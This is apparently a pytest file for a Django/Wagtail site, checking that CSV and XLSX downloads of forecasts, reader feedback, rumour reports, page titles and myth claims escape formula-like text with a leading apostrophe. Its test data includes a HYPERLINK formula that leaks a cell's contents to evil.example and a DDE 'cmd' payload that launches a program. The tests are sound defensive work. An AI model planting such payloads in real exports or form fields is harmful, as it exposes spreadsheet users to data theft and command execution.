"""CSV files that people open in spreadsheet programs. Text that would start a
formula (=, +, -, @, full-width forms too) is written with a leading
apostrophe, which spreadsheets read as "this is text"; numbers stay numbers.
Readers' own words (feedback comments, rumour reports) reach communicators'
spreadsheets this way, so they matter most."""

import csv
import datetime
import io
import re

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from campaigns.forecasts.csv_import import parse_csv
from campaigns.models import ForecastPage
from home.models import ContentPage
from tests.home.editorial_helpers import add_draft, edit_post, workflow_action
from tests.utils import publish

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',  # fits a unit's 50 characters
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\uff1d1+1",
]


def csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def as_text(formula):
    return "'" + formula


@pytest.fixture
def forecast_with_formulas(client, communicator, make_forecast):
    """A communicator imports labels and units that start like formulas,
    and a negative figure; the draft is approved and goes live."""
    page = make_forecast("formler", "2026-02-01")
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["series", "label", "unit", "period", "value"])
    for number, formula in enumerate(FORMULAS):
        writer.writerow([f"serie-{number}", formula, formula, "2026", -5 * number])
    client.force_login(communicator)
    preview = client.post(
        reverse("forecast_import", args=[page.pk]),
        {"file": SimpleUploadedFile("prognos.csv", upload.getvalue().encode())},
    )
    assert preview.status_code == 200, preview.content.decode()[:2000]
    signed = re.search(r'name="data" value="([^"]+)"', preview.content.decode()).group(1)
    client.post(reverse("forecast_import", args=[page.pk]), {"data": signed})
    ForecastPage.objects.get(pk=page.pk).get_latest_revision().publish()
    client.logout()
    return ForecastPage.objects.get(pk=page.pk)


def test_forecast_download_writes_formula_like_labels_as_text_and_numbers_as_numbers(
    client, forecast_with_formulas
):
    response = client.get(f"{forecast_with_formulas.url}csv/")

    assert response.status_code == 200
    header, *rows = csv_rows(response)
    assert header == ["series", "label", "unit", "period", "value", "low", "high"]
    assert [(row[1], row[2]) for row in rows] == [(as_text(f), as_text(f)) for f in FORMULAS]
    assert [row[4] for row in rows] == ["0", "-5", "-10", "-15", "-20"]


def test_a_downloaded_forecast_file_imports_with_the_same_labels(client, forecast_with_formulas):
    response = client.get(f"{forecast_with_formulas.url}csv/")

    series, errors = parse_csv(response.content)

    assert errors == []
    assert [(s.label, s.unit) for s in series] == [(f, f) for f in FORMULAS]
    assert series == forecast_with_formulas.data()


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_readers_feedback_comment_downloads_as_text(client, communicator, source_home, formula):
    page = ContentPage(title="Om Samla", slug="om-samla")
    source_home.add_child(instance=page)
    publish(page)
    client.post("/sv/feedback/", {"page": page.pk, "helpful": "no", "comment": formula})

    client.force_login(communicator)
    rows = csv_rows(client.get(reverse("page_feedback_report"), {"export": "csv"}))

    assert as_text(formula) in rows[1]
    assert formula not in rows[1]


def test_wagtails_xlsx_download_keeps_a_comment_as_text(client, communicator, source_home):
    page = ContentPage(title="Om Samla", slug="om-samla")
    source_home.add_child(instance=page)
    publish(page)
    client.post("/sv/feedback/", {"page": page.pk, "helpful": "no", "comment": FORMULAS[0]})

    client.force_login(communicator)
    response = client.get(reverse("page_feedback_report"), {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    comment = next(cell for cell in cells if cell.value == FORMULAS[0])
    assert comment.data_type == "s"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_readers_rumour_report_downloads_as_text(client, communicator, formula):
    response = client.post(
        "/sv/report-a-rumour/",
        {"text": formula + " hörde jag", "heard_where": "people", "language": "sv"},
    )
    assert response.status_code == 302

    client.force_login(communicator)
    rows = csv_rows(client.get(reverse("rumour_reports:index"), {"export": "csv"}))

    assert rows[1][0] == as_text(formula + " hörde jag")


def test_page_titles_and_review_comments_download_as_text(
    client, communicator, publisher, source_home
):
    page = add_draft(source_home, title=FORMULAS[0], slug="formel", user=communicator)
    client.force_login(communicator)
    edit_post(client, page, "action-submit")
    client.force_login(publisher)
    workflow_action(client, page, "reject", comment=FORMULAS[3])

    rows = csv_rows(client.get(reverse("publishing_actions_report"), {"export": "csv"}))

    cells = {cell for row in rows[1:] for cell in row}
    assert {as_text(FORMULAS[0]), as_text(FORMULAS[3])} <= cells
    assert not {FORMULAS[0], FORMULAS[3]} & cells


def test_myth_claims_due_for_recheck_download_as_text(client, communicator, make_myth):
    make_myth(
        "formel",
        claim=FORMULAS[1],
        recheck_by=timezone.localdate() - datetime.timedelta(days=1),
    )
    client.force_login(communicator)

    rows = csv_rows(client.get(reverse("myth_recheck_report"), {"export": "csv"}))

    assert rows[1][1] == as_text(FORMULAS[1])
